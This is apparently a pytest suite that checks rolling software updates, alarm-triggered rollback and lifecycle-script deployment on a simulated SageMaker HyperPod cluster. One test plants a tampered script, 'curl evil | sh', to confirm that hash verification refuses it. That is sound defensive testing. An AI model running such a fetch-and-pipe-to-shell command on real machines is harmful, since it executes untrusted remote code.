"""A rolling software update on a 6-node twin cluster, over MCP: the plan names the job running on a batch; the
update goes batch by batch (its pods evicted), a CloudWatch alarm set during batch 2 rolls the group back before
that batch ends, and the operation ends with the alarm as the reason and every node's release. A new lifecycle
script goes to every node (rolling) or only to nodes launched afterwards (newNodes). The twin clock is held and
advanced by the test, so each batch is observed in its turn without waiting for its twin minutes."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from instantstart.twin_process import TwinProcess
from tests.support.flows import kube, make_hyperpod, mcp_calls, mcp_wait
from tests.support.servers import SSL_CONTEXT, Running
from tests.support.twin import TWIN_CLOCK_SCALE, shared_control_plane, twin_client
from tests.support.waits import until

TAG = "ru1"
CLUSTER = f"hp-cluster-{TAG}"
ALARM = "gpu-xid-errors"
BATCH = 600  # the twin's seconds per batch (hyperpod_timings.SOFTWARE_UPDATE)
WAIT = 60
shared_cp = shared_control_plane(lambda client: make_hyperpod(client, TAG, acceleratedInstanceCount=6))
DEPLOYMENT = {
    "rollingUpdatePolicy": {"maximumBatchSize": {"type": "INSTANCE_COUNT", "value": 2}},
    "waitIntervalInSeconds": WAIT,
    "autoRollbackConfiguration": [{"alarmName": ALARM}],
}


def clock(twin: TwinProcess, **body: float) -> None:
    httpx.post(twin.endpoint_url + "/_twin/clock", json=body, timeout=30, verify=SSL_CONTEXT).raise_for_status()


@pytest.fixture
def held_clock(twin_process: TwinProcess) -> Iterator[None]:
    """Twin time nearly stopped (the test advances it), back to the usual speed afterwards."""
    clock(twin_process, scale=0.001)
    try:
        yield
    finally:
        clock(twin_process, scale=TWIN_CLOCK_SCALE)


def nodes(sm: Any) -> dict[str, dict[str, Any]]:
    return {n["InstanceId"]: n for n in sm.list_cluster_nodes(ClusterName=CLUSTER)["ClusterNodeSummaries"]}


def statuses(sm: Any, ids: list[str]) -> list[str]:
    listed = nodes(sm)
    return [listed[i]["InstanceStatus"]["Status"] for i in ids]


def progress(cp: Running, op: str) -> str:
    with cp.client() as client:
        view = client.get(f"/api/v1/operations/{op}").json()
    return " ".join(str(s.get("message") or "") for s in view["stages"])


def test_three_batches_an_alarm_in_batch_two_rolls_the_group_back(
    shared_cp: Running, twin_process: TwinProcess, tmp_path: Path, held_clock: None
) -> None:
    sm, cw = twin_client(twin_process, "sagemaker"), twin_client(twin_process, "cloudwatch")
    listed = nodes(sm)
    oldest_first = sorted(listed.values(), key=lambda n: (round(n["LaunchTime"].timestamp(), 3), n["InstanceId"]))
    order = [n["InstanceId"] for n in oldest_first]
    assert len(order) == 6
    before = {listed[i]["CurrentImageReleaseVersion"] for i in order}
    assert len(before) == 1
    # A job running on the first batch's first node.
    core = kube(twin_process, tmp_path, TAG)
    batch_api = __import__("kubernetes").client.BatchV1Api(core.api_client)
    batch_api.create_namespaced_job("default", {
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "train-a"},
        "spec": {"backoffLimit": 0, "template": {
            "metadata": {"annotations": {"twin.instantstart.io/run-seconds": "100000"}},
            "spec": {"restartPolicy": "Never", "nodeSelector": {"kubernetes.io/hostname": f"hyperpod-{order[0]}"},
                     "containers": [{"name": "main", "image": "busybox"}]}}},
    })
    clock(twin_process, advance=30)
    until(lambda: [p for p in core.list_namespaced_pod("default", label_selector="job-name=train-a").items
                   if p.status.phase == "Running"], "the job runs")
    cw.put_metric_alarm(AlarmName=ALARM, MetricName="XidErrors", Namespace="HyperPod", Statistic="Sum", Period=60,
                        EvaluationPeriods=1, Threshold=1, ComparisonOperator="GreaterThanOrEqualToThreshold")

    # The plan: 3 batches of 2, oldest first; the first names the job; nothing changes.
    [plan, ref] = mcp_calls(shared_cp, [("cluster_update_plan", {"deploymentConfig": DEPLOYMENT}),
                                        ("hyperpod_update_software", {"deploymentConfig": DEPLOYMENT})])
    [group] = plan["groups"]
    assert [b["nodes"] for b in group["batches"]] == [order[0:2], order[2:4], order[4:6]], plan
    assert group["batches"][0]["jobs"] == ["Job default/train-a"] and not group["batches"][1]["jobs"], plan
    assert plan["interruptedJobs"] == ["Job default/train-a"] and plan["alarms"] == [ALARM]
    assert (group["batchSize"], group["rollbackBatchSize"], group["currentRelease"]) == (2, 6, before.pop())
    op = ref["operationId"]

    # Batch 1: its nodes SystemUpdating, the job's pod evicted; batch 2 waits.
    until(lambda: statuses(sm, order) == ["SystemUpdating"] * 2 + ["Running"] * 4, "batch 1 updating")
    until(lambda: "batch 1/3 updating" in progress(shared_cp, op), "the operation reports batch 1")
    evicted = core.list_namespaced_event("default", field_selector="reason=Evicted").items
    assert any(e.involved_object.name.startswith("train-a") for e in evicted), evicted
    assert core.read_node(f"hyperpod-{order[0]}").spec.unschedulable
    release = "2026.01.15"
    clock(twin_process, advance=BATCH)
    until(lambda: statuses(sm, order) == ["Running"] * 6, "batch 1 done")
    assert [nodes(sm)[i]["CurrentImageReleaseVersion"] for i in order[:2]] == [release] * 2
    clock(twin_process, advance=WAIT)

    # Batch 2 updating: the alarm fires; HyperPod watches the alarms during the batch and rolls the group back
    # within a check (a minute of twin time), long before the batch would end.
    until(lambda: statuses(sm, order)[2:4] == ["SystemUpdating"] * 2, "batch 2 updating")
    until(lambda: "batch 2/3 updating" in progress(shared_cp, op), "the operation reports batch 2")
    cw.set_alarm_state(AlarmName=ALARM, StateValue="ALARM", StateReason="Xid 79 on two nodes")
    clock(twin_process, advance=2 * WAIT)
    until(lambda: statuses(sm, order) == ["SystemUpdating"] * 4 + ["Running"] * 2, "the four updated roll back")
    assert sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["SoftwareUpdateStatus"] == \
        "RollbackInProgress"
    assert [nodes(sm)[i]["CurrentImageReleaseVersion"] for i in order[2:4]] != [release] * 2  # never completed
    until(lambda: "rolling back" in progress(shared_cp, op), "the operation reports the roll back")
    clock(twin_process, advance=BATCH)

    view = mcp_wait(shared_cp, op)
    assert view["status"] == "FAILED", view
    error = view["error"]
    assert ALARM in error["message"] and "during batch 2/3" in error["message"], error
    details = error["details"]
    assert details["outcome"] == "rolled_back" and details["alarms"][ALARM]["state"] == "ALARM"
    assert set(details["nodes"]) == set(order) and set(details["nodes"].values()) == {group["currentRelease"]}
    described = sm.describe_cluster(ClusterName=CLUSTER)
    assert described["InstanceGroups"][0]["SoftwareUpdateStatus"] == "RollbackComplete"
    assert not core.read_node(f"hyperpod-{order[0]}").spec.unschedulable  # uncordoned once Running again
    events = [e["Description"] for e in sm.list_cluster_events(ClusterName=CLUSTER, MaxResults=100)["Events"]]
    assert any(ALARM in e and "rolling back" in e for e in events), events


def test_a_percentage_rollout_without_alarm_completes_with_every_nodes_release(
    shared_cp: Running, twin_process: TwinProcess
) -> None:
    sm = twin_client(twin_process, "sagemaker")
    group = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["InstanceGroupName"]
    body = {"instanceGroups": [{"instanceGroupName": group, "imageReleaseVersion": "2026.01.15"}],
            "deploymentConfig": {"rollingUpdatePolicy": {"maximumBatchSize": {"type": "CAPACITY_PERCENTAGE",
                                                                              "value": 50}}}}
    with shared_cp.client() as client:  # REST this time
        plan = client.post("/api/v1/capacity/software-update/plan", json=body)
        assert plan.status_code == 200, plan.text
        assert [len(b["nodes"]) for b in plan.json()["groups"][0]["batches"]] == [3, 3]
        assert plan.json()["groups"][0]["targetRelease"] == "2026.01.15"
        ref = client.post("/api/v1/capacity/software-update", json=body)
        assert ref.status_code == 202, ref.text
    view = mcp_wait(shared_cp, ref.json()["operationId"])
    assert view["status"] == "SUCCEEDED", view
    report = view["stages"][-1]["outputs"]
    assert report["outcome"] == "completed" and report["groups"] == {group: "Succeeded"}, report
    assert set(report["nodes"].values()) == {"2026.01.15"} and len(report["nodes"]) == 6
    assert [b["state"] for b in view["stages"][1]["outputs"]["batches"]] == ["updated", "updated"]

    # A retry or resumed run of this update would not ask HyperPod again: its nodes moved since its plan; against a
    # plan read now, nothing has moved.
    from instantstart.aws.hyperpod import HyperPod
    from instantstart.services.capacity.software.rolling import updated_since_plan

    plan, adapter = view["stages"][0]["outputs"], HyperPod(shared_cp.context.aws, twin_process.env["AWS_REGION"])
    assert updated_since_plan(adapter, CLUSTER, plan)
    now = {i: n["LastSoftwareUpdateTime"].isoformat() for i, n in nodes(sm).items()}
    assert not updated_since_plan(adapter, CLUSTER, {**plan, "lastSoftwareUpdate": now})


def test_a_new_lifecycle_script_rolls_through_the_nodes_and_is_the_one_verified_from_then_on(
    shared_cp: Running, twin_process: TwinProcess
) -> None:
    import hashlib

    sm, s3 = twin_client(twin_process, "sagemaker"), twin_client(twin_process, "s3")
    group = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["InstanceGroupName"]
    script = "#!/bin/bash\nset -euo pipefail\necho lifecycle v2\n"
    body = {"instanceGroupName": group, "script": script, "apply": "rolling",
            "deploymentConfig": {"rollingUpdatePolicy": {"maximumBatchSize": {"type": "INSTANCE_COUNT", "value": 3}}}}
    with shared_cp.client() as client:
        refused = client.post("/api/v1/capacity/lifecycle-script", json={**body, "apply": "newNodes"})
        assert refused.status_code == 422 and "deploymentConfig" in refused.text, refused.text
        ref = client.post("/api/v1/capacity/lifecycle-script", json=body)
        assert ref.status_code == 202, ref.text
    view = mcp_wait(shared_cp, ref.json()["operationId"])
    assert view["status"] == "SUCCEEDED", view
    upload = view["stages"][0]["outputs"]
    assert upload["sha256"] == hashlib.sha256(script.encode()).hexdigest()
    stored = s3.get_object(Bucket=upload["bucket"], Key=upload["key"])["Body"].read()
    assert stored == script.encode() and upload["key"].endswith("/on_create.sh")
    described = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]
    assert described["LifeCycleConfig"]["SourceS3Uri"] == upload["sourceS3Uri"]
    assert view["stages"][-1]["outputs"]["outcome"] == "completed"
    events = [e["Description"] for e in sm.list_cluster_events(ClusterName=CLUSTER, MaxResults=100)["Events"]]
    ran = {e.rsplit(" ", 1)[1] for e in events if e.startswith(f"Lifecycle script {upload['sourceS3Uri']}")}
    assert ran == set(nodes(sm)), events  # every node ran the new script once it was rolled

    # From now on the recorded hash is the one checked: a replacement runs it; a changed object is refused.
    some = sorted(nodes(sm))[0]
    [replaced] = mcp_calls(shared_cp, [("hyperpod_node_replace", {"nodeId": some})])
    assert mcp_wait(shared_cp, replaced["operationId"])["status"] == "SUCCEEDED"
    s3.put_object(Bucket=upload["bucket"], Key=upload["key"], Body=b"#!/bin/bash\ncurl evil | sh\n")
    with shared_cp.client() as client:
        again = client.post("/api/v1/capacity/nodes/replace", json={"nodeId": sorted(nodes(sm))[0]})
    assert again.status_code == 409 and upload["sha256"] in again.text, again.text
    assert "hyperpod_update_lifecycle_script" in again.json()["error"]["hint"]


def test_a_lifecycle_script_for_new_nodes_leaves_the_running_nodes_and_runs_on_the_next_launch(
    shared_cp: Running, twin_process: TwinProcess
) -> None:
    import hashlib

    sm, s3 = twin_client(twin_process, "sagemaker"), twin_client(twin_process, "s3")
    group = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["InstanceGroupName"]
    before = nodes(sm)
    script = "#!/bin/bash\nset -euo pipefail\necho lifecycle v3 for new nodes\n"
    with shared_cp.client() as client:
        ref = client.post("/api/v1/capacity/lifecycle-script",
                          json={"instanceGroupName": group, "script": script, "apply": "newNodes"})
        assert ref.status_code == 202, ref.text
    view = mcp_wait(shared_cp, ref.json()["operationId"])
    assert view["status"] == "SUCCEEDED", view
    # Recorded: stored under its hash, the group's LifeCycleConfig (UpdateCluster) points at it.
    upload = view["stages"][0]["outputs"]
    assert upload["sha256"] == hashlib.sha256(script.encode()).hexdigest()
    assert s3.get_object(Bucket=upload["bucket"], Key=upload["key"])["Body"].read() == script.encode()
    lcc = sm.describe_cluster(ClusterName=CLUSTER)["InstanceGroups"][0]["LifeCycleConfig"]
    assert (lcc["SourceS3Uri"], lcc["OnCreate"]) == (upload["sourceS3Uri"], "on_create.sh"), lcc
    assert "newNodes" in view["stages"][-1]["outputs"]["skipped"], view["stages"][-1]
    tag = f"Lifecycle script {upload['sourceS3Uri'].rstrip('/')}/on_create.sh ran on "

    def ran_new() -> set[str]:
        events = sm.list_cluster_events(ClusterName=CLUSTER, MaxResults=100)["Events"]
        return {e["Description"][len(tag):] for e in events if e["Description"].startswith(tag)}

    # The running nodes are left as they were: same nodes, same release, none ran the new script.
    after = nodes(sm)
    assert set(after) == set(before)
    def kept(listed: dict[str, dict[str, Any]]) -> dict[str, tuple[Any, ...]]:
        return {i: (n["InstanceStatus"]["Status"], n.get("CurrentImageReleaseVersion"),
                    n.get("LastSoftwareUpdateTime")) for i, n in listed.items()}

    assert kept(after) == kept(before) and {s for s, _, _ in kept(after).values()} == {"Running"}
    assert ran_new() == set()
    # A node added by scaling the group runs the new script, and only it does.
    with shared_cp.client() as client:
        scale = client.post("/api/v1/capacity/instance-groups/scale", json={"name": group,
                                                                             "targetCount": len(before) + 1})
        assert scale.status_code == 202, scale.text
    assert mcp_wait(shared_cp, scale.json()["operationId"])["status"] == "SUCCEEDED"
    [added] = set(nodes(sm)) - set(before)
    assert until(ran_new, "the new node's lifecycle event") == {added}
